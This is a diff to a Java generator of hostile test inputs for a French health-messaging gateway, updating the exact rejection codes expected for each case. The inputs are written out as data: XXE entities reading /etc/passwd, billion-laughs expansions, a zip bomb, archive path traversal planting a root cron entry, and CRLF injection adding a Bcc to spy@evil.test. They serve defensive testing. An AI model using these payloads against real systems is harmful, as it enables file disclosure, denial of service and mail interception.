@@ -86,16 +86,16 @@ public final class HostileCorpusGenerator {
     String boundary = boundaryOf(good);
     smtp("mime-no-boundary-parameter", "mime", "sign-opaque", "DELIVERED", "multipart/mixed without a boundary parameter: Jakarta Mail recovers the boundary from the body; content intact and signed, so delivered",
         good.replaceFirst(";\\s*boundary=\"?" + Pattern.quote(boundary) + "\"?", ""));
-    smtp("mime-boundary-never-used", "mime", "sign-opaque", "Q:MSSANTE_MALFORMED_MIME", "the declared boundary never appears in the body",
+    smtp("mime-boundary-never-used", "mime", "sign-opaque", "Q:MSSANTE_MALFORMED_MIME/Missing start boundary", "the declared boundary never appears in the body",
         good.replace("--" + boundary, "--other" + boundary.substring(5)).replaceFirst("boundary=\"?other", "boundary=\"" + boundary.substring(0, 5)));
     smtp("mime-unterminated-multipart", "mime", "sign-opaque", "Q:MSSANTE_MALFORMED_MIME/BASE64", "the message stops in the middle of the XDM attachment, no closing boundary",
         good.substring(0, good.length() - 2000));
-    smtp("mime-nested-40-deep", "mime", "sign-opaque", "Q:MSSANTE_MALFORMED_MIME", "multiparts nested 40 deep", nested(40));
-    smtp("mime-unknown-transfer-encoding", "mime", "sign", "Q:MSSANTE_MALFORMED_MIME", "the XDM part says Content-Transfer-Encoding: x-evil",
+    smtp("mime-nested-40-deep", "mime", "sign-opaque", "Q:MSSANTE_MALFORMED_MIME/nested more than 20", "multiparts nested 40 deep", nested(40));
+    smtp("mime-unknown-transfer-encoding", "mime", "sign", "Q:MSSANTE_MALFORMED_MIME/Unknown encoding", "the XDM part says Content-Transfer-Encoding: x-evil",
         replaceXdmEncoding(good, "x-evil"));
     smtp("mime-broken-base64-xdm", "mime", "sign", "Q:MSSANTE_MALFORMED_MIME/BASE64", "the XDM attachment's base64 is garbage",
         garbleXdmBase64(good));
-    smtp("mime-unknown-charset", "mime", "sign", "Q:MSSANTE_MALFORMED_MIME", "the text part declares charset=x-no-such-charset",
+    smtp("mime-unknown-charset", "mime", "sign", "Q:MSSANTE_MALFORMED_MIME/x-no-such-charset", "the text part declares charset=x-no-such-charset",
         textMessage("text/plain; charset=x-no-such-charset", "Bonjour\r\n"));
     smtp("mime-8bit-garbage-headers", "mime", "sign", "Q:UNTRUSTED_DOMAIN/unreadable From", "raw 8-bit bytes and NULs in From and Subject",
         ("From: \u00ff\u00fe\u0000kine <" + PEER + "\u0080>\r\nTo: " + TO + "\r\nSubject: \u00c3\u0028\u0000\u00ff\r\nMessage-ID: <g8@cabinet.test>\r\n"
@@ -110,7 +110,7 @@ public final class HostileCorpusGenerator {
             + "Message-ID: <inject@cabinet.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nBonjour\r\n");
     smtp("mime-forged-pont-headers", "mime", "sign", "DELIVERED", "forged X-Pont-* verdict headers inside the signed content: replaced by the gateway's",
         good.replaceFirst("\r\nSubject:", "\r\nX-Pont-Signature: VALID; signer=chef@hopital.test; binding=ADDRESS\r\nX-Pont-Patient-INS: present\r\nSubject:"));
-    smtp("mime-xdm-as-text-plain", "mime", "sign", "Q:MSSANTE_INVALID_XDM", "IHE_XDM.ZIP that is actually a text file",
+    smtp("mime-xdm-as-text-plain", "mime", "sign", "Q:MSSANTE_INVALID_XDM/NOT_A_ZIP", "IHE_XDM.ZIP that is actually a text file",
         replaceXdm(good, "ceci n'est pas un zip".getBytes(StandardCharsets.US_ASCII)));
     smtp("mime-two-xdm-attachments", "two-patients", "sign", "Q:MSSANTE_SEVERAL_PATIENTS", "two IHE_XDM.ZIP attachments in one message",
         twoXdms(good));
@@ -148,49 +148,49 @@ public final class HostileCorpusGenerator {
         latin1b(good.replace("From: " + PEER, "From: revoque@cabinet.test")));
 
     // --- XDM
-    smtp("xdm-zip-bomb", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/TOO_LARGE|RATIO", "a 300 MB document of zeros deflated to ~300 kB",
+    smtp("xdm-zip-bomb", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/TOO_LARGE", "a 300 MB document of zeros deflated to ~300 kB",
         withXdm(good, bomb()));
-    smtp("xdm-path-traversal", "xdm", "sign", "Q:MSSANTE_INVALID_XDM", "an entry named ../../../../etc/cron.d/pont",
+    smtp("xdm-path-traversal", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/PATH_TRAVERSAL", "an entry named ../../../../etc/cron.d/pont",
         withXdm(good, zip(put(goodXdm, "../../../../etc/cron.d/pont", "* * * * * root id\n"))));
-    smtp("xdm-absolute-path", "xdm", "sign", "Q:MSSANTE_INVALID_XDM", "an entry named /etc/passwd",
+    smtp("xdm-absolute-path", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/PATH_TRAVERSAL", "an entry named /etc/passwd",
         withXdm(good, zip(put(goodXdm, "/etc/passwd", "root:x:0:0\n"))));
-    smtp("xdm-backslash-traversal", "xdm", "sign", "Q:MSSANTE_INVALID_XDM", "an entry named ..\\..\\windows\\evil.bat",
+    smtp("xdm-backslash-traversal", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/PATH_TRAVERSAL", "an entry named ..\\..\\windows\\evil.bat",
         withXdm(good, zip(put(goodXdm, "..\\..\\windows\\evil.bat", "echo\r\n"))));
     smtp("xdm-duplicate-entry", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/DUPLICATE", "METADATA.XML twice with different content",
         withXdm(good, zipWithDuplicate(goodXdm)));
     smtp("xdm-too-many-entries", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/TOO_MANY_ENTRIES", "1,001 empty entries (the limit is 1,000)",
         withXdm(good, zip(manyEntries(1001))));
-    smtp("xdm-empty-zip", "xdm", "sign", "Q:MSSANTE_INVALID_XDM", "an empty zip", withXdm(good, zip(new LinkedHashMap<>())));
-    smtp("xdm-truncated-zip", "xdm", "sign", "Q:MSSANTE_INVALID_XDM", "the good XDM cut in half",
+    smtp("xdm-empty-zip", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/NO_METADATA", "an empty zip", withXdm(good, zip(new LinkedHashMap<>())));
+    smtp("xdm-truncated-zip", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/CORRUPT_ZIP", "the good XDM cut in half",
         withXdm(good, java.util.Arrays.copyOf(zip(goodXdm), zip(goodXdm).length / 2)));
     smtp("xdm-no-metadata", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/NO_METADATA", "the XDM without METADATA.XML",
         withXdm(good, zip(remove(goodXdm, "METADATA.XML"))));
     smtp("xdm-hash-mismatch", "xdm", "sign", "Q:MSSANTE_INVALID_XDM/HASH_MISMATCH", "the CDA altered without updating METADATA.XML",
         withXdm(good, zip(replaceText(goodXdm, "DOC0001.XML", "Suites simples.", "Suites compliq."))));
-    smtp("xdm-metadata-xxe", "xml", "sign", "Q:MSSANTE_INVALID_XDM", "METADATA.XML with an external entity reading /etc/passwd",
+    smtp("xdm-metadata-xxe", "xml", "sign", "Q:MSSANTE_INVALID_XDM/XML_DTD_REFUSED", "METADATA.XML with an external entity reading /etc/passwd",
         withXdm(good, zip(prependDoctype(goodXdm, "METADATA.XML", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"))));
-    smtp("xdm-metadata-billion-laughs", "xml", "sign", "Q:MSSANTE_INVALID_XDM", "METADATA.XML with the billion laughs entities",
+    smtp("xdm-metadata-billion-laughs", "xml", "sign", "Q:MSSANTE_INVALID_XDM/XML_DTD_REFUSED", "METADATA.XML with the billion laughs entities",
         withXdm(good, zip(prependDoctype(goodXdm, "METADATA.XML", LAUGHS))));
 
     // --- CDA inside a consistent XDM (hash and size updated, so the CDA parser meets the content)
-    smtp("cda-xxe", "xml", "sign", "Q:MSSANTE_INVALID_CDA", "CDA with an external entity (file:///etc/passwd)",
+    smtp("cda-xxe", "xml", "sign", "Q:MSSANTE_INVALID_CDA/DOCTYPE", "CDA with an external entity (file:///etc/passwd)",
         withXdm(good, zip(withCda(prepend(cda(), "<!DOCTYPE ClinicalDocument [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")))));
-    smtp("cda-billion-laughs", "xml", "sign", "Q:MSSANTE_INVALID_CDA", "CDA with the billion laughs entities",
+    smtp("cda-billion-laughs", "xml", "sign", "Q:MSSANTE_INVALID_CDA/DOCTYPE", "CDA with the billion laughs entities",
         withXdm(good, zip(withCda(prepend(cda(), LAUGHS.replace("DOCTYPE x", "DOCTYPE ClinicalDocument"))))));
-    smtp("cda-external-dtd", "xml", "sign", "Q:MSSANTE_INVALID_CDA", "CDA referencing an external DTD over http",
+    smtp("cda-external-dtd", "xml", "sign", "Q:MSSANTE_INVALID_CDA/DOCTYPE", "CDA referencing an external DTD over http",
         withXdm(good, zip(withCda(prepend(cda(), "<!DOCTYPE ClinicalDocument SYSTEM \"http://127.0.0.1:9/evil.dtd\">")))));
-    smtp("cda-not-xml", "xml", "sign", "Q:MSSANTE_INVALID_CDA", "DOC0001.XML holds random bytes", withXdm(good, zip(withCda(random(3000, 9)))));
-    smtp("cda-deeply-nested", "xml", "sign", "Q:MSSANTE_INVALID_CDA", "CDA body nested 100,000 elements deep",
+    smtp("cda-not-xml", "xml", "sign", "Q:MSSANTE_INVALID_CDA/not well-formed", "DOC0001.XML holds random bytes", withXdm(good, zip(withCda(random(3000, 9)))));
+    smtp("cda-deeply-nested", "xml", "sign", "Q:MSSANTE_INVALID_CDA/depth", "CDA body nested 100,000 elements deep",
         withXdm(good, zip(withCda(deepXml(100_000)))));
-    smtp("ins-wrong-key-in-cda", "ins", "sign", "Q:MSSANTE_", "the CDA's INS has a wrong control key",
+    smtp("ins-wrong-key-in-cda", "ins", "sign", "Q:MSSANTE_NO_INS", "the CDA's INS has a wrong control key (read as no usable INS)",
         withXdm(good, zip(withCda(latin1b(latin1(cda()).replace(GOOD_INS, "279035121518988"))))));
-    smtp("ins-letters-in-cda", "ins", "sign", "Q:MSSANTE_", "the CDA's INS holds letters",
+    smtp("ins-letters-in-cda", "ins", "sign", "Q:MSSANTE_NO_INS", "the CDA's INS holds letters",
         withXdm(good, zip(withCda(latin1b(latin1(cda()).replace(GOOD_INS, "27903512151898A"))))));
     smtp("ins-missing-in-cda", "ins", "sign", "Q:MSSANTE_NO_INS", "the CDA names the patient without an INS",
         withXdm(good, zip(withCda(latin1b(latin1(cda()).replace("1.2.250.1.213.1.4.10", "1.2.3.4.5")))))); 
-    smtp("two-patients-metadata-vs-cda", "two-patients", "sign", "Q:MSSANTE_", "XDM metadata names another patient than the CDA",
+    smtp("two-patients-metadata-vs-cda", "two-patients", "sign", "Q:MSSANTE_SEVERAL_PATIENTS", "XDM metadata names another patient than the CDA",
         withXdm(good, zip(replaceText(goodXdm, "METADATA.XML", GOOD_INS, "182017512345659"))));
-    smtp("two-patients-two-record-targets", "two-patients", "sign", "Q:MSSANTE_", "the CDA has two recordTarget (two patients)",
+    smtp("two-patients-two-record-targets", "two-patients", "sign", "Q:MSSANTE_INVALID_CDA/2 patients", "the CDA has two recordTarget (two patients)",
         withXdm(good, zip(withCda(twoRecordTargets()))));
 
     // --- oversize: too big to keep in the repository, so the test grows the stored letter at run time
@@ -212,36 +212,36 @@ public final class HostileCorpusGenerator {
     rest("rest-ins-too-long", "ins", "HTTP:400:INVALID_INS", "INS of 10,000 digits", body(meta.replace(GOOD_INS, "1".repeat(10_000)), pdf, null));
     rest("rest-ins-unknown-oid", "ins", "HTTP:400:INVALID_INS", "INS with an unknown OID",
         body(meta.replace("1.2.250.1.213.1.4.10", "1.2.3.4"), pdf, null));
-    rest("rest-cda-xxe", "xml", "HTTP:4xx", "CDA with an external entity",
+    rest("rest-cda-xxe", "xml", "HTTP:422:INVALID_CDA", "CDA with an external entity",
         body(meta, null, prepend(cda(), "<!DOCTYPE ClinicalDocument [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")));
-    rest("rest-cda-billion-laughs", "xml", "HTTP:4xx", "CDA with billion laughs",
+    rest("rest-cda-billion-laughs", "xml", "HTTP:422:INVALID_CDA", "CDA with billion laughs",
         body(meta, null, prepend(cda(), LAUGHS.replace("DOCTYPE x", "DOCTYPE ClinicalDocument"))));
-    rest("rest-cda-external-dtd", "xml", "HTTP:4xx", "CDA with an external DTD",
+    rest("rest-cda-external-dtd", "xml", "HTTP:422:INVALID_CDA", "CDA with an external DTD",
         body(meta, null, prepend(cda(), "<!DOCTYPE ClinicalDocument SYSTEM \"http://127.0.0.1:9/evil.dtd\">")));
-    rest("rest-cda-deeply-nested", "xml", "HTTP:4xx", "CDA nested 100,000 elements deep", body(meta, null, deepXml(100_000)));
+    rest("rest-cda-deeply-nested", "xml", "HTTP:422:INVALID_CDA", "CDA nested 100,000 elements deep", body(meta, null, deepXml(100_000)));
     rest("rest-cda-other-patient", "two-patients", "HTTP:422:PATIENT_MISMATCH", "the CDA is about another patient than the metadata",
         body(meta, null, latin1b(latin1(cda()).replace(GOOD_INS, "182017512345659"))));
-    rest("rest-cda-two-record-targets", "two-patients", "HTTP:4xx", "the CDA has two recordTarget", body(meta, null, twoRecordTargets()));
-    rest("rest-pdf-not-pdf", "mime", "HTTP:4xx", "the pdf part is random bytes", body(meta, random(2000, 11), null));
+    rest("rest-cda-two-record-targets", "two-patients", "HTTP:422:INVALID_CDA", "the CDA has two recordTarget", body(meta, null, twoRecordTargets()));
+    rest("rest-pdf-not-pdf", "mime", "HTTP:422:INVALID_PDF", "the pdf part is random bytes", body(meta, random(2000, 11), null));
     rest("rest-oversize", "oversize", "HTTP:413:OVERSIZE", "a 1.1 MB PDF (the test gateway accepts 1 MB)",
         body(meta, concat(pdf, new byte[1_100_000]), null));
-    rest("rest-multipart-unterminated", "mime", "HTTP:4xx", "no closing boundary",
+    rest("rest-multipart-unterminated", "mime", "HTTP:400:MISSING_DOCUMENT", "no closing boundary",
         java.util.Arrays.copyOf(body(meta, pdf, null), body(meta, pdf, null).length - BOUNDARY.length() - 8));
-    rest("rest-multipart-wrong-boundary", "mime", "HTTP:4xx", "the body uses another boundary than the header",
+    rest("rest-multipart-wrong-boundary", "mime", "HTTP:400:MISSING_METADATA", "the body uses another boundary than the header",
         latin1b(latin1(body(meta, pdf, null)).replace(BOUNDARY, "SOMETHING-ELSE")));
-    rest("rest-metadata-not-json", "mime", "HTTP:400", "metadata is not JSON", body("{\"sender\": [unclosed", pdf, null));
-    rest("rest-metadata-8bit-garbage", "mime", "HTTP:400", "metadata is random 8-bit bytes", body(latin1(random(500, 12)), pdf, null));
-    rest("rest-subject-header-injection", "mime", "HTTP:4xx|202-no-injection", "subject with CR LF Bcc: header injection",
+    rest("rest-metadata-not-json", "mime", "HTTP:400:INVALID_METADATA", "metadata is not JSON", body("{\"sender\": [unclosed", pdf, null));
+    rest("rest-metadata-8bit-garbage", "mime", "HTTP:400:INVALID_METADATA", "metadata is random 8-bit bytes", body(latin1(random(500, 12)), pdf, null));
+    rest("rest-subject-header-injection", "mime", "HTTP:202", "subject with CR LF Bcc: accepted, but the mail carries no Bcc header and goes to the one recipient",
         body(meta.replace("\"subject\":\"Sortie\"", "\"subject\":\"Sortie\\r\\nBcc: spy@evil.test\""), pdf, null));
     rest("rest-recipient-header-injection", "mime", "HTTP:400:INVALID_RECIPIENT", "recipient with CR LF Bcc:",
         body(meta.replace("\"dr.martin@hopital.test\"", "\"dr.martin@hopital.test\\r\\nBcc: spy@evil.test\""), pdf, null));
-    rest("rest-sender-header-injection", "mime", "HTTP:4xx", "sender with CR LF",
+    rest("rest-sender-header-injection", "mime", "HTTP:400:INVALID_SENDER", "sender with CR LF",
         body(meta.replace("\"sender\":\"secretariat@hopital.test\"", "\"sender\":\"secretariat@hopital.test\\r\\nBcc: spy@evil.test\""), pdf, null));
-    rest("rest-duplicate-metadata", "mime", "HTTP:400", "two metadata parts",
+    rest("rest-duplicate-metadata", "mime", "HTTP:400:DUPLICATE_PART", "two metadata parts",
         latin1b(latin1(body(meta, pdf, null)).replaceFirst("--" + BOUNDARY + "\r\n", "--" + BOUNDARY + "\r\n"
             + "Content-Disposition: form-data; name=\"metadata\"\r\nContent-Type: application/json\r\n\r\n"
             + meta.replace("dr.martin", "spy") + "\r\n--" + BOUNDARY + "\r\n")));
-    rest("rest-pdf-filename-traversal", "mime", "HTTP:4xx|202", "pdf filename ../../../../etc/passwd: accepted, the name is not used as a path",
+    rest("rest-pdf-filename-traversal", "mime", "HTTP:202", "pdf filename ../../../../etc/passwd: accepted, the name is never used as a path (delivered to the one recipient)",
         latin1b(latin1(body(meta, pdf, null)).replace("filename=\"lettre.pdf\"", "filename=\"../../../../etc/passwd\"")));
   }
 
